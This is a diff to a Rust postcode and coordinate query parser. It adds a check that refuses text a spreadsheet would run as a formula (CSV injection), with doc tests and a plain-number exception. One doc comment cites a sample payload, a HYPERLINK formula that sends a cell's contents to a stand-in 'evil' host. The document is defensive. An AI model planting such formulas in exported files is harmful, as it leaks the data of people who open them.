@@ -176,6 +176,16 @@ pub enum QueryError {
     /// A point out of range or not finite.
     #[error(transparent)]
     BadCoordinate(#[from] CoordError),
+    /// Text a spreadsheet would run as a formula ([`is_formula_text`]): never read, so that
+    /// `=HYPERLINK("http://evil/?"&A2,"NR1 1AA")` is not answered as NR1 1AA.
+    #[error(
+        "the text starts with {first:?} and would be a spreadsheet formula: it is not read as a \
+         query (remove the {first:?})"
+    )]
+    Formula {
+        /// The character it starts with.
+        first: char,
+    },
 }
 
 impl QueryError {
@@ -280,8 +290,16 @@ fn read_text(text: &str, free: bool) -> Result<Reading, QueryError> {
             QueryError::BadPostcode(PostcodeError::Empty)
         });
     }
+    // Two numbers first: `-1.29, 52.63` is a point, not a formula.
     if free && let Some(r) = point_text(t) {
         return r;
+    }
+    // Leading spaces, tabs and line breaks are trimmed before reading, so the check is on
+    // the trimmed text: `\t=1+1` is refused as `=1+1` is.
+    if is_formula_text(t)
+        && let Some(first) = t.chars().next()
+    {
+        return Err(QueryError::Formula { first });
     }
     let whole = match postcode::parse(t) {
         Ok(q) => return Ok(postcode_reading(&q, "the whole text is a postcode")),
@@ -327,6 +345,53 @@ fn read_text(text: &str, free: bool) -> Result<Reading, QueryError> {
         query: Query::Text(t.to_string()),
         text_match: None,
     })
+}
+
+/// Characters that make a spreadsheet read a cell as a formula when they start it (the OWASP
+/// list for CSV injection).
+pub const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];
+
+/// True when a spreadsheet would treat `cell` as a formula: it starts with one of
+/// [`FORMULA_STARTS`] and is not a plain number.
+///
+/// A plain number (`-1.29`, `+44`, `-1,5`, `1e-3`: an optional sign, digits with at most one
+/// decimal point or comma, an optional exponent) is a number to a spreadsheet, not a
+/// formula, so negative coordinates stay numbers.
+///
+/// ```
+/// # use careband::engine::query::is_formula_text;
+/// assert!(is_formula_text("=1+1"));
+/// assert!(is_formula_text("@SUM(A1)"));
+/// assert!(is_formula_text("-1+2"));
+/// assert!(!is_formula_text("-1.29"));
+/// assert!(!is_formula_text("NR1 1AA"));
+/// ```
+#[must_use]
+pub fn is_formula_text(cell: &str) -> bool {
+    cell.starts_with(FORMULA_STARTS) && !is_plain_number(cell)
+}
+
+/// An optional sign, digits with at most one `.` or `,`, and an optional exponent.
+fn is_plain_number(s: &str) -> bool {
+    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
+    let (mantissa, exponent) = match body.find(['e', 'E']) {
+        Some(i) => (&body[..i], Some(&body[i + 1..])),
+        None => (body, None),
+    };
+    let mut digits = 0;
+    let mut points = 0;
+    for c in mantissa.chars() {
+        match c {
+            '0'..='9' => digits += 1,
+            '.' | ',' => points += 1,
+            _ => return false,
+        }
+    }
+    let exponent_ok = exponent.is_none_or(|e| {
+        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
+        !e.is_empty() && e.bytes().all(|b| b.is_ascii_digit())
+    });
+    digits > 0 && points <= 1 && exponent_ok
 }
 
 /// Two numbers, or `E <easting> N <northing>`: a point.
